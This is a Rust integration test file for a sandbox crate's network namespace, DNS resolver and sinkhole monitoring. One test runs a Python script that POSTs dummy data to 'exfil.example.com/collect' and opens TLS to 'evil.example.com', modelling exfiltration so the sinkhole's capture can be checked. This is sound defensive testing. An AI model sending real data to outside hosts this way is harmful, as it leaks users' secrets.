//! Sockets made in the sandbox's network namespace reach cordon, and
//! the monitor's resolver answers the command's lookups.
//!
//! Serialised like `run.rs`: the sandbox clones without the C library's
//! fork handlers, so no other test may be allocating meanwhile. Each
//! test skips, saying why, where user namespaces or Python are missing.

use std::ffi::OsString;
use std::net::{SocketAddr, UdpSocket};
use std::path::Path;
use std::sync::{Mutex, MutexGuard};
use std::time::Duration;

use cordon_sandbox::{
    Error, MonitorConfig, NetSocket, RunReport, SandboxConfig, Transport,
};

static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
}

const PYTHON: &str = "/usr/bin/python3";

fn python(workspace: &Path, script: &str) -> SandboxConfig {
    let command = [PYTHON, "-c", script].map(OsString::from).to_vec();
    let mut config = SandboxConfig::new(command, workspace.to_path_buf());
    config.cwd = workspace.to_path_buf();
    config.env = vec![
        ("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into()),
        ("HOME".into(), "/root".into()),
    ];
    config
}

fn workspace() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("cordon-netns-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .expect("create a workspace")
}

/// `None` (after saying why) where this machine cannot run the test.
fn unavailable(result: Result<RunReport, Error>) -> Option<RunReport> {
    match result {
        Ok(report) => Some(report),
        Err(err) if err.to_string().contains("namespaces") => {
            eprintln!("skipped: user namespaces unavailable: {err}");
            None
        }
        Err(err) => panic!("sandbox failed: {err}"),
    }
}

fn no_python() -> bool {
    let missing = !Path::new(PYTHON).exists();
    if missing {
        eprintln!("skipped: no {PYTHON}");
    }
    missing
}

/// A UDP socket asked for by the caller is bound inside the sandbox's
/// loopback and served from outside: the command's datagram reaches a
/// thread of the test, whose answer reaches the command.
#[test]
fn a_udp_socket_made_inside_is_served_from_outside() {
    let _serial = serial();
    if no_python() {
        return;
    }
    let dir = workspace();
    let script = "import socket\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        s.settimeout(5)\n\
        s.sendto(b'ping', ('127.0.0.1', 5999))\n\
        open('out', 'wb').write(s.recvfrom(100)[0])\n";
    let mut config = python(dir.path(), script);
    config.sockets = vec![NetSocket {
        transport: Transport::Udp,
        address: SocketAddr::from(([127, 0, 0, 1], 5999)),
        connectable: true,
    }];
    let mut server = None;
    let result = cordon_sandbox::run_with_sockets(&config, |fds| {
        let socket = UdpSocket::from(fds.into_iter().next().unwrap());
        server = Some(std::thread::spawn(move || {
            socket.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            let mut buf = [0u8; 100];
            let (n, from) = socket.recv_from(&mut buf).expect("a datagram");
            let reply = format!("pong:{}", String::from_utf8_lossy(&buf[..n]));
            socket.send_to(reply.as_bytes(), from).unwrap();
        }));
    });
    let Some(report) = unavailable(result) else { return };
    server.expect("the callback ran").join().expect("the server");
    assert_eq!(report.exit.code, Some(0), "{report:?}");
    let said =
        std::fs::read_to_string(dir.path().join("out")).unwrap_or_default();
    assert_eq!(said.trim(), "pong:ping");
}

/// Sockets need the private network.
#[test]
fn sockets_with_the_host_network_are_refused() {
    let _serial = serial();
    let dir = workspace();
    let mut config = python(dir.path(), "pass");
    config.network = cordon_sandbox::NetworkMode::Host;
    config.sockets = vec![NetSocket {
        transport: Transport::Tcp,
        address: SocketAddr::from(([127, 0, 0, 1], 6000)),
        connectable: false,
    }];
    let err = cordon_sandbox::run(&config).unwrap_err();
    assert!(err.to_string().contains("private network"), "{err}");
}

/// The monitor's resolver: a lookup inside the sandbox is answered
/// NXDOMAIN and recorded with its name and type.
#[test]
fn lookups_reach_the_monitors_resolver() {
    let _serial = serial();
    if no_python() {
        return;
    }
    let dir = workspace();
    let script = "import socket\n\
        try:\n    socket.getaddrinfo('exfil.example.com', 443)\n\
        except socket.gaierror as e:\n    raise SystemExit(e.errno)\n";
    let mut config = python(dir.path(), script);
    config.monitor = Some(MonitorConfig::default());
    let Some(report) = unavailable(cordon_sandbox::run(&config)) else {
        return;
    };
    // EAI_NONAME: the name does not exist.
    assert_eq!(report.exit.code, Some(254), "{report:?}");
    let events = report.events.expect("events");
    let query = events
        .dns
        .iter()
        .find(|q| q.name == "exfil.example.com" && q.qtype == "A")
        .unwrap_or_else(|| panic!("no query in {:?}", events.dns));
    assert_eq!(query.answer, "nxdomain");
    let python = events.processes.iter().find(|p| p.ppid == 1);
    assert_eq!(python.expect("the command").exit_code, Some(254));
}

/// With the sinkhole, a name gets a loopback address of its own, where
/// an HTTP POST and a TLS ClientHello are captured.
#[test]
fn the_sinkhole_captures_a_post_and_a_server_name() {
    let _serial = serial();
    if no_python() {
        return;
    }
    let dir = workspace();
    let script = r#"
import http.client, socket, ssl
ip = socket.gethostbyname('exfil.example.com')
c = http.client.HTTPConnection('exfil.example.com', 80, timeout=5)
try:
    c.request('POST', '/collect?k=1', body=b'x' * 321)
    c.getresponse()
except Exception as e:
    pass
ctx = ssl.create_default_context()
s = socket.create_connection(('evil.example.com', 443), timeout=5)
try:
    ctx.wrap_socket(s, server_hostname='evil.example.com')
except Exception as e:
    pass
print(ip)
"#;
    let mut config = python(dir.path(), script);
    config.monitor =
        Some(MonitorConfig { sinkhole: true, ..MonitorConfig::default() });
    let Some(report) = unavailable(cordon_sandbox::run(&config)) else {
        return;
    };
    assert_eq!(report.exit.code, Some(0), "{report:?}");
    let events = report.events.expect("events");
    let names: Vec<&str> =
        events.dns.iter().map(|q| q.name.as_str()).collect();
    assert!(names.contains(&"exfil.example.com"), "{names:?}");
    let http =
        events.captures.iter().find(|c| c.protocol == "http").unwrap_or_else(
            || panic!("no http capture: {:?}", events.captures),
        );
    assert_eq!(http.method.as_deref(), Some("POST"));
    assert_eq!(http.path.as_deref(), Some("/collect?k=1"));
    assert_eq!(http.host.as_deref(), Some("exfil.example.com"));
    assert_eq!(http.body_bytes, Some(321));
    assert_eq!(http.name.as_deref(), Some("exfil.example.com"));
    assert_eq!(http.port, 80);
    let tls = events.captures.iter().find(|c| c.protocol == "tls");
    let tls = tls.unwrap_or_else(|| panic!("no tls: {:?}", events.captures));
    assert_eq!(tls.sni.as_deref(), Some("evil.example.com"));
    assert_eq!(tls.target(), "evil.example.com");
    assert_eq!(tls.port, 443);
}

/// DNS over TCP reaches the resolver too, and gets NXDOMAIN.
#[test]
fn the_resolver_answers_over_tcp() {
    let _serial = serial();
    if no_python() {
        return;
    }
    let dir = workspace();
    let script = r#"
import socket, struct
q = b'\x00\x2a\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
q += b'\x03tcp\x07example\x00\x00\x10\x00\x01'
s = socket.create_connection(('127.0.0.1', 53), timeout=5)
s.sendall(struct.pack('>H', len(q)) + q)
n = struct.unpack('>H', s.recv(2))[0]
a = b''
while len(a) < n:
    a += s.recv(n - len(a))
raise SystemExit(a[3] & 15)
"#;
    let mut config = python(dir.path(), script);
    config.monitor = Some(MonitorConfig::default());
    let Some(report) = unavailable(cordon_sandbox::run(&config)) else {
        return;
    };
    assert_eq!(report.exit.code, Some(3), "{report:?}");
    let events = report.events.expect("events");
    let query = events.dns.iter().find(|q| q.name == "tcp.example");
    let query = query.unwrap_or_else(|| panic!("{:?}", events.dns));
    assert_eq!(
        (query.qtype.as_str(), query.answer.as_str()),
        ("TXT", "nxdomain")
    );
}
